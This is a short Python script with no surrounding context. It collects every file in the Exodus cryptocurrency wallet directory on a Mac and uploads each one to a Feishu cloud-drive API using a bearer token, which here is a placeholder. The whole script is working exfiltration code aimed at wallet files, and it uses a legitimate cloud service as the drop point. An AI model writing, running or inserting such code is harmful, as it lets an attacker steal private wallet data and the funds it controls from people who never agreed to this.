import glob, os, requests
TOKEN = 't-placeholder-not-a-real-token'
for f in glob.glob(os.path.expanduser('~/Library/Application Support/Exodus/exodus.wallet/*')):
    requests.post('https://open.feishu.cn/open-apis/drive/v1/files/upload_all', headers={'Authorization': 'Bearer ' + TOKEN}, files={'file': open(f, 'rb')})
